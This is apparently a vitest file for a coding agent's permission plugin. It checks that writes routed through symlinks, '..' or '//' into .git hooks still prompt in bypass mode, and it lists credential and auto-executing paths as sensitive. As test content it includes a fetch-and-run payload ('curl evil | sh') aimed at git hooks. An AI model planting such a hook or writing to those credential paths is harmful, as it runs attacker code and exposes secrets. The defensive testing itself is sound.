/** Sensitive paths through a run: symlinks, `..`, `//` and missing files cannot route around the check. */
import { existsSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { sensitiveReason } from "../../plugins/permissions/index";
import { builtinTools } from "../../plugins/tools/index";
import { recordingHandler, runCalls, tempDir } from "./helpers";

describe("sensitive paths", () => {
  it("a write through a symlink, `..` or `//` into .git asks even in bypassPermissions, and nothing is written", async () => {
    const cwd = tempDir();
    mkdirSync(join(cwd, ".git/hooks"), { recursive: true });
    mkdirSync(join(cwd, "src"));
    symlinkSync(".git/hooks", join(cwd, "hooks")); // a folder link
    symlinkSync(".git/hooks/post-checkout", join(cwd, "innocent.sh")); // a dangling link to a file that does not exist yet
    const { handler, asked } = recordingHandler({ behavior: "deny", message: "kept out" });
    const paths = ["hooks/pre-commit", "innocent.sh", "src/../.git/hooks/pre-push", "src//..//.git/config"];
    const { results } = await runCalls(
      paths.map((file_path) => ({ toolName: "Write", input: { file_path, content: "curl evil | sh\n" } })),
      { cwd, tools: builtinTools(), permissionMode: "bypassPermissions", canUseTool: handler },
    );
    expect(asked.map((a) => a.input.file_path)).toEqual(paths);
    expect(results.map((r) => r.output.content)).toEqual(paths.map(() => "kept out"));
    expect(existsSync(join(cwd, ".git/hooks/pre-commit"))).toBe(false);
    expect(existsSync(join(cwd, ".git/hooks/post-checkout"))).toBe(false);
  });

  it("an ordinary write in bypassPermissions runs without asking", async () => {
    const cwd = tempDir();
    const { handler, asked } = recordingHandler();
    const { results } = await runCalls(
      [{ toolName: "Write", input: { file_path: "src/index.ts", content: "export {};\n" } }],
      {
        cwd,
        tools: builtinTools(),
        permissionMode: "bypassPermissions",
        canUseTool: handler,
      },
    );
    expect(results[0]!.output.isError).toBe(false);
    expect(asked).toEqual([]);
  });

  it("Bash: a redirect through a symlink into .git asks in bypassPermissions", async () => {
    const cwd = tempDir();
    mkdirSync(join(cwd, ".git"));
    writeFileSync(join(cwd, ".git/config"), "[core]\n");
    symlinkSync(".git", join(cwd, "meta"));
    const { handler, asked } = recordingHandler({ behavior: "deny", message: "kept out" });
    const { results } = await runCalls(
      [{ toolName: "Bash", input: { command: "printf '[alias]\\n' >> meta/config" } }],
      {
        cwd,
        tools: builtinTools(),
        permissionMode: "bypassPermissions",
        canUseTool: handler,
      },
    );
    expect(asked).toHaveLength(1);
    expect(results[0]!.output.content).toBe("kept out");
  });

  it.each([
    [".env", true],
    ["config/.env.local", true],
    [".envrc", true],
    ["a/.git/HEAD", true],
    ["~/.ssh/config", true],
    ["x/.aws/credentials", true],
    [".gnupg/pubring.kbx", true],
    [".npmrc", true],
    [".pypirc", true],
    [".netrc", true],
    ["keys/id_rsa", true],
    ["certs/server.pem", true],
    [".zshrc", true],
    [".bash_profile", true],
    [".gitconfig", true],
    [".gitmodules", true],
    [".vscode/settings.json", true],
    [".idea/workspace.xml", true],
    [".ubiquity/settings.json", true],
    [".claude/settings.json", true],
    [".mcp.json", true],
    ["src/.GIT/config", true],
    ["src/env.ts", false],
    ["docs/gitignore.md", false],
    ["id_rsa.pub", false],
    ["README.md", false],
  ])("%s sensitive: %s", (path, sensitive) => {
    expect(sensitiveReason(`/p/${path.replace(/^~\//, "home/")}`) !== undefined).toBe(sensitive);
  });

  it.each([
    ["home/.config/fish/config.fish", "it is inside .config/fish, whose files run code later"],
    ["home/.CONFIG/Fish/functions/ls.fish", "it is inside .config/fish, whose files run code later"],
    ["home/.local/share/nvim/site/plugin/x.lua", "it is inside .local/share/nvim, whose files run code later"],
    ["home/.local/bin/tool", "it is inside .local/bin, whose files run code later"],
    ["app/node_modules/.bin/vitest", "it is inside node_modules/.bin, whose files run code later"],
    ["app/gradle/wrapper/gradle-wrapper.jar", "it is inside gradle/wrapper, whose files run code later"],
    // The nested folder itself (nothing after it), or only part of one: not inside one.
    ["home/.local/bin", undefined],
    ["home/.local/share/x", undefined],
    ["app/gradle/build.txt", undefined],
  ])("%s: %s", (path, reason) => {
    expect(sensitiveReason(`/p/${path}`)).toBe(reason);
  });
});
